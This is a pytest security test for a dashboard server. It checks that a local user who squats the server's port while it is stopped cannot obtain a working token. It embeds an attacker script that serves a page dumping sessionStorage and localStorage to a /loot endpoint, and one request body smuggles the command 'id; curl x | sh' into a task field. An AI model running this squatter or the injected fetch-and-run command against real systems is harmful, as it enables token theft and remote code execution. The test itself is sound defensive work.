"""Issue 19, finding 2: another local user squats the dashboard's port while `web` is stopped.

The attacker runs as a different uid (a local user made for the test, dropped to with
`setpriv`), serves its own page on the same port, and keeps every header and every value the
page can read. It must not end up with a token that works.
"""

import http.client
import io
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from playwright.sync_api import expect

import orchestra
from conftest import wait_for

SQUATTER = "orchestra-squatter"
ATTACKER = r"""
import json, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT, LOOT = int(sys.argv[1]), sys.argv[2]
PAGE = b'''<!doctype html><script>
fetch("/loot", {method: "POST", body: JSON.stringify({session: {...sessionStorage}, local: {...localStorage},
  hash: location.hash})});
</script>'''

def keep(entry):
    with open(LOOT, "a") as f:
        f.write(json.dumps(entry) + "\n")

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        keep({"path": self.path, "headers": dict(self.headers)})
        if self.path.startswith("/api/challenge"):
            body = json.dumps({"proof": "0" * 64}).encode()  # it does not know the token
        else:
            body = PAGE
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        keep({"path": self.path, "headers": dict(self.headers), "body": data.decode("utf-8", "replace")})
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass

ThreadingHTTPServer.allow_reuse_address = True
ThreadingHTTPServer(("127.0.0.1", PORT), Handler).serve_forever()
"""

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("setpriv"),
    reason="needs root (to make a second user) and setpriv",
)


def squatter_uid():
    """The uid of a second local user, made on first use."""
    try:
        return pwd.getpwnam(SQUATTER).pw_uid
    except KeyError:
        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", SQUATTER],
                       check=True, capture_output=True)  # fmt: skip
        return pwd.getpwnam(SQUATTER).pw_uid


def as_squatter(uid, argv, **options):
    """Run argv as the other user: another uid, its own group, no supplementary groups."""
    return ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *argv], options


def port_taken(port):
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0


def attempt(port, token, uid, method="POST", path="/api/spawn"):
    """A request with a token, sent from the attacker's uid (a spawn by default); the HTTP status."""
    script = (
        "import http.client, sys\n"
        "c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]), timeout=10)\n"
        "body = b'{\"tasks\": [\"id; curl x | sh\"]}' if sys.argv[3] == 'POST' else None\n"
        "c.request(sys.argv[3], sys.argv[4], body=body,\n"
        "          headers={'Authorization': 'Bearer ' + sys.argv[2], 'Content-Type': 'application/json'})\n"
        "print(c.getresponse().status)\n"
    )
    argv, _ = as_squatter(uid, [sys.executable, "-I", "-c", script, str(port), token, method, path])
    done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    return int(done.stdout)


def test_a_squatter_on_the_port_gets_no_working_token(project, phone, request):
    uid = squatter_uid()
    shared = Path(tempfile.mkdtemp(prefix="orchestra-squat-"))  # outside root's 0700 tmp_path
    request.addfinalizer(lambda: shutil.rmtree(shared, ignore_errors=True))
    os.chmod(shared, 0o777)
    (shared / "attacker.py").write_text(ATTACKER)
    loot = shared / "loot.jsonl"

    server = orchestra.start_web_server(project, "127.0.0.1", 0, log=io.StringIO(), revive=False)
    port, first = server.server_address[1], server.gate.token.decode()
    phone.goto(server.url)
    expect(phone.locator("#connection")).to_have_attribute("data-state", "live", timeout=30_000)
    assert (
        phone.evaluate("localStorage.length") == 0
    )  # the token is in this tab's sessionStorage only
    assert phone.evaluate("sessionStorage.getItem('orchestra-token')") == first
    server.stop()
    expect(phone.locator("#connection")).to_have_attribute("data-state", "offline")

    argv, _ = as_squatter(
        uid, [sys.executable, "-I", str(shared / "attacker.py"), str(port), str(loot)]
    )
    attacker = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        wait_for(lambda: attacker.poll() is not None or port_taken(port), timeout=20,
                 what="the squatter to listen")  # fmt: skip
        assert attacker.poll() is None, attacker.stderr.read()
        # The open page reconnects to whatever answers on its port: it asks for proof first.
        wait_for(lambda: loot.exists() and "/api/challenge" in loot.read_text(), timeout=30,
                 what="the page to challenge the squatter")  # fmt: skip
        expect(phone.locator("#connection")).to_have_text("token not recognised", timeout=15_000)
        assert first not in loot.read_text()  # the token never left the page
        owner = os.stat(loot).st_uid
        assert owner == uid != os.getuid()

        # The user reloads: the squatter's page runs in the same origin and reads what it can.
        phone.reload()
        wait_for(
            lambda: '"/loot"' in loot.read_text(), timeout=30, what="the squatter's page to report"
        )
        stolen = {first} if first in loot.read_text() else set()
    finally:
        attacker.kill()  # not SIGTERM: under CI's coverage its handler cannot write as that user
        attacker.wait(timeout=10)

    # `web` starts again on the same port: a new token, so whatever was taken is worthless.
    deadline = time.monotonic() + 30
    while True:
        try:
            server = orchestra.start_web_server(
                project, "127.0.0.1", port, log=io.StringIO(), revive=False
            )
            break
        except OSError:
            assert time.monotonic() < deadline
            time.sleep(0.2)
    try:
        fresh = server.gate.token.decode()
        assert fresh != first and fresh not in loot.read_text()
        for token in stolen | {first}:
            assert attempt(port, token, uid) == 401
        assert attempt(port, fresh, uid, "GET", "/api/status") == 200  # not a vacuous check
        assert json.loads((project.dir / "web.json").read_text())["token"] == fresh
        assert (project.dir / "web.json").stat().st_mode & 0o777 == 0o600
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        connection.request("GET", "/api/challenge?nonce=" + "ab" * 16)
        proof = json.loads(connection.getresponse().read())["proof"]
        import hashlib
        import hmac

        assert proof == hmac.new(fresh.encode(), b"ab" * 16, hashlib.sha256).hexdigest()
    finally:
        server.stop()
